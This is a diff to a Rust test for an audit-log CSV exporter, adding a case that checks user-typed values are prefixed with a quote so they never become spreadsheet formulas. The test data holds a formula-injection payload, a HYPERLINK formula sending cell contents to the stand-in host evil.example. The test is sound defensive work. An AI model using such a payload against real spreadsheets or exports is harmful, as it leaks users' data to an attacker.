@@ -86,6 +86,22 @@ async fn filters_pages_and_csv(store: Store) {
     assert_eq!(&records[0][0], "2026-11-20T08:00:00Z");
     assert_eq!(&records[2][4], "max 60 min, \"quota\" 6, internet off");
     assert_eq!(&records[4][4], "line one\nline two");
+
+    // What someone typed never becomes a spreadsheet formula: a quote goes in front.
+    let typed = AuditEntry {
+        id: 0,
+        at_ms: at("2026-11-25T00:00:00Z"),
+        actor: "anonymous".into(),
+        action: "login.failure".into(),
+        subject: "@SUM(1+1)".into(),
+        detail: "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")".into(),
+    };
+    let line = audit_csv_line(&typed);
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_bytes());
+    let record = reader.records().next().unwrap().unwrap();
+    assert_eq!(&record[3], "'@SUM(1+1)", "{line}");
+    assert_eq!(&record[4], "'=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Grades\")", "{line}");
+    assert_eq!(&record[1], "anonymous");
 }
 
 async fn bad_filters_are_refused_plainly(store: Store) {
